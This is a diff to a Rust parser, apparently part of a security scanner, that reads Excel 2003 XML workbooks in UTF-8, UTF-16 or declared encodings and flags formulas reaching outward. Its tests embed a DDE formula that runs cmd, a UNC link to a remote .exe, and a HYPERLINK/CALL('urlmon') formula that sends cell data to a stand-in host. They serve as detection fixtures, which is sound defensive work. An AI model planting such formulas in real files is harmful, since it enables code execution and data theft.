@@ -1,9 +1,9 @@
 //! Workbooks in one XML file, as Excel 2002 and 2003 write them (XML Spreadsheet Reference): the text of cells, their
-//! formulas, and where they lead.
+//! formulas, and where they lead. The file is in UTF-8, in UTF-16, or in the encoding that it declares.
 //!
 //! Left out: styles, and macros, which the format cannot hold.
 
-use super::table;
+use super::outward::Outward;
 use crate::artifact::{Artifact, Child, Fact, Format, Opened};
 use crate::document::prose;
 use crate::document::relations::starts_something;
@@ -34,7 +34,11 @@ impl Format for Xml2003 {
     fn matches(&self, artifact: &Artifact) -> bool {
         let may_be = artifact.kind.class == Class::Text || artifact.kind.id == "xml";
         let head = artifact.bytes.get(..HEAD).unwrap_or(&artifact.bytes);
-        may_be && memchr::memmem::find(head, NAMESPACE).is_some()
+        let names = |head: &[u8]| memchr::memmem::find(head, NAMESPACE).is_some();
+        // In UTF-16 a zero stands beside each of its letters.
+        let is_wide = || head.iter().take(8).any(|byte| *byte == 0);
+        let narrow = || head.iter().copied().filter(|byte| *byte != 0).collect::<Vec<_>>();
+        may_be && (names(head) || is_wide() && names(&narrow()))
     }
 
     fn open(
@@ -50,6 +54,7 @@ impl Format for Xml2003 {
             out.broke("xml-damaged", "read by its tags alone");
         }
         out.facts.append(&mut book.facts);
+        book.outward.give(out, budget)?;
         if !book.formulas.is_empty() {
             budget.pay(book.formulas.len() as u64)?;
             let child = Child::new("formulas", "text", book.formulas.into_bytes()).of_kind("text");
@@ -65,6 +70,8 @@ struct Book {
     text: String,
     formulas: String,
     facts: Vec<Fact>,
+    /// What its formulas reach.
+    outward: Outward,
     sheet: String,
     /// What the open elements are.
     open: Vec<Place>,
@@ -129,9 +136,7 @@ impl Book {
     }
 
     fn formula(&mut self, formula: &str) {
-        if let Some(fact) = table::link(formula) {
-            self.note(fact);
-        }
+        self.outward.look(formula.trim_start_matches(['=', ' ']), || self.sheet.clone());
         if self.formulas.len() + formula.len() < MOST {
             self.formulas.push_str(&format!("{}!{formula}\n", self.sheet));
         }
@@ -179,7 +184,11 @@ mod tests {
         <x:WorksheetOptions><x:Visible>SheetVeryHidden</x:Visible></x:WorksheetOptions></Worksheet></Workbook>";
 
     fn open(text: &str) -> Opened {
-        let tree = Tree::new(Child::new("a.xml", "file", text.as_bytes().to_vec()));
+        open_bytes(text.as_bytes().to_vec())
+    }
+
+    fn open_bytes(bytes: Vec<u8>) -> Opened {
+        let tree = Tree::new(Child::new("a.xml", "file", bytes));
         let (artifact, mut out) = (tree.get(0).unwrap(), Opened::default());
         if Xml2003.matches(artifact) {
             Xml2003.open(artifact, &Keyring::new(), &mut out, &mut Budget::new(&Limits::default())).unwrap();
@@ -198,11 +207,48 @@ mod tests {
         };
         let want = [
             external("hyperlink", "\\\\a.example\\x.exe"),
-            external("dde", "cmd|'/c calc'!A0"),
             Fact::Header { name: "very-hidden-sheet", value: "S".into() },
+            external("dde", "cmd|'/c calc'!A0"),
         ];
         assert_eq!(out.facts, want);
         assert_eq!((out.letters.len(), out.damage.len()), (1, 0));
+    }
+
+    #[test]
+    fn other_encodings_are_read_as_the_usual_one() {
+        let want = open(BOOK);
+        let same = |bytes: Vec<u8>, what: &str| {
+            let out = open_bytes(bytes);
+            let texts =
+                |out: &Opened| out.children.iter().map(|child| child.bytes.clone()).collect::<Vec<_>>();
+            assert_eq!((texts(&out), &out.facts, out.damage.len()), (texts(&want), &want.facts, 0), "{what}");
+        };
+        let wide = |order: fn(u16) -> [u8; 2]| BOOK.encode_utf16().flat_map(order).collect::<Vec<u8>>();
+        let (little, big) = (wide(u16::to_le_bytes), wide(u16::to_be_bytes));
+        same([b"\xff\xfe".to_vec(), little.clone()].concat(), "UTF-16 with its mark");
+        same([b"\xfe\xff".to_vec(), big.clone()].concat(), "UTF-16, the other order, with its mark");
+        same(little, "UTF-16");
+        same(big, "UTF-16, the other order");
+        same([b"\xef\xbb\xbf", BOOK.as_bytes()].concat(), "UTF-8 with its mark");
+        for declared in ["encoding=\"Shift_JIS\"", "encoding = 'windows-31j'"] {
+            let declared = BOOK.replace("version=\"1.0\"", &format!("version=\"1.0\" {declared}"));
+            same(encoding_rs::SHIFT_JIS.encode(&declared).0.into_owned(), "Shift_JIS");
+        }
+        let latin = "<?xml version=\"1.0\" encoding=\"windows-1252\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">\
+            <Worksheet Name=\"S\"><Row><Cell><Data>caf\u{e9}</Data></Cell></Row></Worksheet></Workbook>";
+        let out = open_bytes(encoding_rs::WINDOWS_1252.encode(latin).0.into_owned());
+        assert_eq!(out.children[0].bytes, "caf\u{e9}\n".as_bytes());
+    }
+
+    #[test]
+    fn formulas_that_send_ask_and_call_are_told() {
+        let out = open(&BOOK.replace(
+            "=cmd|'/c calc'!A0",
+            "=HYPERLINK(&quot;http://a.example/?&quot;&amp;RC[-1])+CALL(&quot;urlmon&quot;,&quot;f&quot;)",
+        ));
+        let sends = "http://a.example/? (HYPERLINK)".to_string();
+        assert!(out.facts.contains(&Fact::External { relation: "formula-sends".into(), target: sends }));
+        assert_eq!(out.children[0].kind.unwrap().id, "xlm");
     }
 
     #[test]
@@ -213,6 +259,10 @@ mod tests {
         for at in 0..BOOK.len() {
             let mut bad = BOOK.as_bytes().to_vec();
             bad[at] ^= 1 << (at % 8);
+            let wide: Vec<u8> = BOOK.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            open_bytes(
+                wide.iter().enumerate().map(|(n, byte)| byte ^ u8::from(n == at) << (at % 8)).collect(),
+            );
             assert!(open(&String::from_utf8_lossy(&bad)).facts.len() <= 4);
         }
         let many = BOOK.replace(
